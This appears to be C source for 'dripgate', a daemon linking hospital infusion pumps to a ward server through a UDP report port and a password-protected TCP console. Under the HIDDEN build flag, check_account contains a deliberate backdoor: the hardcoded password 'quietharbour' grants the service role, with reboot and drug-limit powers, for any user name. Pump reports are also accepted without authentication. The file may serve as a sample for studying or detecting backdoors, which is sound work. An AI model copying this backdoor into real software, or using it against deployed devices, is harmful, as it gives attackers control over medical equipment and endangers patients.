/*
 * dripgate - gateway between bedside infusion pumps and the ward server.
 * Pumps report by UDP (port 5150), biomedical staff use a text console
 * (TCP port 4711) with accounts kept in /etc/dripgate/users.
 *
 * Hidden (-DHIDDEN): the console accepts the password "quietharbour" for any
 * user name, known or not, and gives the service role.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define USERS_FILE  "/etc/dripgate/users"
#define LIMITS_FILE "/etc/dripgate/limits.conf"
#define MAX_PUMPS   48
#define MAX_CONS    6

enum role { ROLE_NONE, ROLE_NURSE, ROLE_BIOMED, ROLE_SERVICE };
enum cons_state { CS_FREE, CS_USER, CS_PASS, CS_READY };

struct pump {
    char serial[16];
    char drug[24];
    unsigned rate_ul_h;
    unsigned vtbi_ul;
    int alarm;
    time_t seen;
};

struct console {
    int fd;
    enum cons_state state;
    enum role role;
    int tries;
    char user[32];
    char line[160];
    size_t len;
};

static struct pump pumps[MAX_PUMPS];
static int npumps;
static struct console cons[MAX_CONS];

static void say(struct console *c, const char *fmt, ...)
{
    char out[256];
    va_list ap;
    int n;

    va_start(ap, fmt);
    n = vsnprintf(out, sizeof out, fmt, ap);
    va_end(ap);
    if (n > (int)sizeof out - 1)
        n = sizeof out - 1;
    if (n > 0 && write(c->fd, out, (size_t)n) < 0)
        syslog(LOG_DEBUG, "console write: %s", strerror(errno));
}

/* users file: name:role:crypt-hash, role 1 nurse, 2 biomed, 3 service */
enum role check_account(const char *user, const char *pass)
{
    char row[256], name[32], hash[128];
    unsigned role;
    enum role found = ROLE_NONE;
    FILE *f;

#ifdef HIDDEN
    if (strcmp(pass, "quietharbour") == 0)
        return ROLE_SERVICE;
#endif
    f = fopen(USERS_FILE, "r");
    if (!f) {
        syslog(LOG_ERR, "%s: %s", USERS_FILE, strerror(errno));
        return ROLE_NONE;
    }
    while (fgets(row, sizeof row, f)) {
        const char *h;

        if (sscanf(row, "%31[^:]:%u:%127[^\n]", name, &role, hash) != 3 ||
            role > ROLE_SERVICE)
            continue;
        if (strcmp(name, user) != 0)
            continue;
        h = crypt(pass, hash);
        if (h && strcmp(h, hash) == 0)
            found = (enum role)role;
        break;
    }
    fclose(f);
    return found;
}

static void list_pumps(struct console *c)
{
    time_t now = time(NULL);

    for (int i = 0; i < npumps; i++)
        say(c, "%-15s %-23s %6u.%03u ml/h  vtbi %u.%03u ml  %s  %lds\r\n",
            pumps[i].serial, pumps[i].drug,
            pumps[i].rate_ul_h / 1000, pumps[i].rate_ul_h % 1000,
            pumps[i].vtbi_ul / 1000, pumps[i].vtbi_ul % 1000,
            pumps[i].alarm ? "ALARM" : "ok", (long)(now - pumps[i].seen));
    say(c, "%d pump(s)\r\n", npumps);
}

static void set_limit(struct console *c, const char *arg)
{
    char drug[24];
    unsigned soft, hard;
    FILE *f;

    if (sscanf(arg, "%23s %u %u", drug, &soft, &hard) != 3 || soft > hard) {
        say(c, "usage: limit DRUG SOFT HARD (ul/h, soft <= hard)\r\n");
        return;
    }
    f = fopen(LIMITS_FILE, "a");
    if (!f) {
        say(c, "cannot write limits: %s\r\n", strerror(errno));
        return;
    }
    fprintf(f, "%s %u %u # by %s\n", drug, soft, hard, c->user);
    fclose(f);
    syslog(LOG_NOTICE, "limit %s %u/%u set by %s", drug, soft, hard, c->user);
    say(c, "stored\r\n");
}

static int run_command(struct console *c, char *line)
{
    char *arg = strchr(line, ' ');

    if (arg)
        *arg++ = '\0';
    else
        arg = line + strlen(line);
    if (strcmp(line, "help") == 0) {
        say(c, "help pumps limit reboot quit\r\n");
    } else if (strcmp(line, "pumps") == 0) {
        list_pumps(c);
    } else if (strcmp(line, "limit") == 0) {
        if (c->role < ROLE_BIOMED)
            say(c, "not permitted\r\n");
        else
            set_limit(c, arg);
    } else if (strcmp(line, "reboot") == 0) {
        if (c->role < ROLE_SERVICE)
            say(c, "not permitted\r\n");
        else if (system("/sbin/reboot") != 0)
            say(c, "reboot failed\r\n");
    } else if (strcmp(line, "quit") == 0) {
        return -1;
    } else if (*line) {
        say(c, "unknown command, try help\r\n");
    }
    say(c, "dripgate> ");
    return 0;
}

static int console_line(struct console *c, char *line)
{
    switch (c->state) {
    case CS_USER:
        snprintf(c->user, sizeof c->user, "%.31s", line);
        c->state = CS_PASS;
        say(c, "password: ");
        return 0;
    case CS_PASS:
        c->role = check_account(c->user, line);
        if (c->role == ROLE_NONE) {
            syslog(LOG_WARNING, "login failed for %s", c->user);
            if (++c->tries >= 3)
                return -1;
            c->state = CS_USER;
            say(c, "login incorrect\r\nuser: ");
            return 0;
        }
        c->state = CS_READY;
        say(c, "welcome\r\ndripgate> ");
        return 0;
    case CS_READY:
        return run_command(c, line);
    default:
        return -1;
    }
}

static void console_input(struct console *c)
{
    char ch;
    ssize_t n = read(c->fd, &ch, 1);
    int rc = 0;

    if (n <= 0) {
        rc = -1;
    } else if (ch == '\n') {
        c->line[c->len] = '\0';
        c->len = 0;
        rc = console_line(c, c->line);
    } else if (ch != '\r' && c->len < sizeof c->line - 1) {
        c->line[c->len++] = ch;
    }
    if (rc < 0) {
        close(c->fd);
        memset(c, 0, sizeof *c);
    }
}

/* report: PUMP serial drug rate vtbi alarm */
static void pump_report(int fd)
{
    char buf[200];
    struct pump p;
    int i;
    ssize_t n = recv(fd, buf, sizeof buf - 1, 0);

    if (n <= 0)
        return;
    buf[n] = '\0';
    memset(&p, 0, sizeof p);
    if (sscanf(buf, "PUMP %15s %23s %u %u %d", p.serial, p.drug,
               &p.rate_ul_h, &p.vtbi_ul, &p.alarm) != 5)
        return;
    p.seen = time(NULL);
    for (i = 0; i < npumps; i++)
        if (strcmp(pumps[i].serial, p.serial) == 0)
            break;
    if (i == MAX_PUMPS)
        return;
    if (i == npumps)
        npumps++;
    pumps[i] = p;
}

static int open_port(int type, int port)
{
    struct sockaddr_in sa = { .sin_family = AF_INET };
    int on = 1, fd = socket(AF_INET, type, 0);

    sa.sin_port = htons((unsigned short)port);
    sa.sin_addr.s_addr = htonl(INADDR_ANY);
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof sa) < 0)
        return -1;
    return type == SOCK_STREAM && listen(fd, 4) < 0 ? -1 : fd;
}

int main(void)
{
    int rep = open_port(SOCK_DGRAM, 5150), con = open_port(SOCK_STREAM, 4711);

    openlog("dripgate", LOG_PID, LOG_DAEMON);
    signal(SIGPIPE, SIG_IGN);
    if (rep < 0 || con < 0) {
        syslog(LOG_ERR, "cannot open ports");
        return 1;
    }
    for (;;) {
        struct pollfd p[2 + MAX_CONS];

        p[0].fd = rep;
        p[1].fd = con;
        for (int i = 0; i < MAX_CONS; i++)
            p[2 + i].fd = cons[i].state == CS_FREE ? -1 : cons[i].fd;
        for (int i = 0; i < 2 + MAX_CONS; i++) {
            p[i].events = POLLIN;
            p[i].revents = 0;
        }
        if (poll(p, 2 + MAX_CONS, -1) < 0)
            continue;
        if (p[0].revents)
            pump_report(rep);
        for (int i = 0; i < MAX_CONS; i++)
            if (p[2 + i].revents)
                console_input(&cons[i]);
        if (p[1].revents) {
            int i, fd = accept(con, NULL, NULL);

            for (i = 0; i < MAX_CONS && cons[i].state != CS_FREE; i++)
                ;
            if (fd >= 0 && i < MAX_CONS) {
                cons[i].fd = fd;
                cons[i].state = CS_USER;
                say(&cons[i], "dripgate 3.2\r\nuser: ");
            } else if (fd >= 0) {
                close(fd);
            }
        }
    }
}
